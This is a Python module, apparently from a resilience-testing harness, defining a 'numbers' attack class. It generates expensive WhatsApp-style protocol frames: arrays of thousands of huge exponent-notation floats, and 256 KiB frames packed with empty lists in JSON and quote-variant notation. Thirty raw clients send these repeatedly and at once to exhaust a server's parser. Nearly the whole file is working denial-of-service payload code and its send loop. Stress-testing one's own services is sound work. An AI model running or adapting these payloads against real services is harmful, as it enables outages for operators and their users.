"""Frames that are valid and dear: a few of them at once, from some clients each."""

from __future__ import annotations

import asyncio
import time
from dataclasses import dataclass
from typing import ClassVar, Final

from .attack import Attack
from .raw import Chunk, RawClient, RawClients, chunk_of
from .stage import Stage, option

FRAME_BYTES: Final = 262_144
FLOATS: Final = 10_580  # in a message of almost 64 KiB
MESSAGES: Final = 4
PATIENCE_S: Final = 20.0


@dataclass(frozen=True, kw_only=True)
class Numbers(Attack):
    """Clients send frames that cost more than their bytes: numbers, lists, sheet notation."""

    name: ClassVar[str] = "numbers"

    clients: int = option(30, "clients, each with one frame in the same moment")
    every_s: float = option(3.0, "seconds between two such moments; none but after all answers")
    seconds: float = option(9.0, "seconds of each kind")
    kinds: str = option("ack,sheet,numbers", "lists in an ack, in sheet notation; numbers")

    async def play(self, stage: Stage) -> None:
        """The mildest kind first: after the last one no front may be left."""
        loads = {
            "ack": ("lists in an ack", lists_in_ack()),
            "sheet": ("lists in sheet notation", lists_in_sheet_notation()),
            "numbers": ("numbers", numbers()),
        }
        await stage.calm()
        for kind in self.kinds.split(","):
            load, frame = loads[kind]
            chunk = chunk_of(frame)
            async with self.attack(stage, load) as attackers:
                clients = [await attackers.connect(f"97{number}") for number in range(self.clients)]
                with stage.progress(load, self.seconds) as done:
                    await self._send(clients, attackers, chunk)
                    done(self.seconds)
            if stage.is_harmed:
                break
        await stage.finish()

    async def _send(self, clients: list[RawClient], attackers: RawClients, chunk: Chunk) -> None:
        """Have each send its frame, again and again."""
        began = time.monotonic()
        while (passed := time.monotonic() - began) < self.seconds:
            for client in clients:
                if client.is_ready:
                    client.put(chunk)
            try:
                async with asyncio.timeout(PATIENCE_S):
                    await asyncio.gather(*(client.answered() for client in clients))
            except TimeoutError:
                return
            await asyncio.sleep(max(0.0, began + passed + self.every_s - time.monotonic()))


def numbers() -> bytes:
    """Return an `action` of whole numbers in exponent notation, each of 309 digits."""
    message = b'{"a":[' + b",".join([b"1e300"] * FLOATS) + b"]}"
    elements = (
        b'{"key":{"remoteJid":"96@s.whatsapp.com","fromMe":true,"id":"NUMBERS-%d"},' % number
        + b'"message":'
        + message
        + b',"messageTimestamp":"1566970629"}'
        for number in range(MESSAGES)
    )
    return b'["action",{"add":"relay"},[' + b",".join(elements) + b"]]"


def lists_in_sheet_notation() -> bytes:
    """Return an `action` in sheet notation with an extra key that holds empty lists."""
    return _filled(
        b"['action',{'add':'relay','x':[",
        b"]},[{'key':{'remoteJid':'96@s.whatsapp.com','id':'LISTS'},"
        b"'message':{'conversation':'x'}}]]",
    )


def lists_in_ack() -> bytes:
    """Return an ack in JSON, but for a trailing comma, with the same key."""
    return _filled(
        b'["Msg",{"id":"LISTS","ack":2,"cmd":"ack","from":"96@c.us","to":"970@c.us","x":[',
        b"]}]",
    )


def _filled(begin: bytes, end: bytes) -> bytes:
    unit = b"[],"
    return begin + unit * ((FRAME_BYTES - len(begin) - len(end)) // len(unit)) + end
